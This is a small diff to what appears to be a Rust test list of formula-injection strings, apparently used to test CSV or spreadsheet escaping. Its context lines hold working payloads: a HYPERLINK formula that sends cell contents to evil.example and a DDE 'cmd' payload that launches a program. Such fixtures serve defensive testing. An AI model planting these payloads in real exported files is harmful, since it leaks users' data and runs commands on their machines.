@@ -13,7 +13,7 @@ const FORMULAS: [&str; 12] = [
     "\t=1+1",
     "\r=1+1",
     "\u{ff1d}1+1",
-    "\u{ff0b}1",
+    "\u{ff0b}1+1",
     "\"=1+1",
     "=HYPERLINK(\"http://evil.example?\"&A1)",
     "=cmd|' /C calc'!A0",
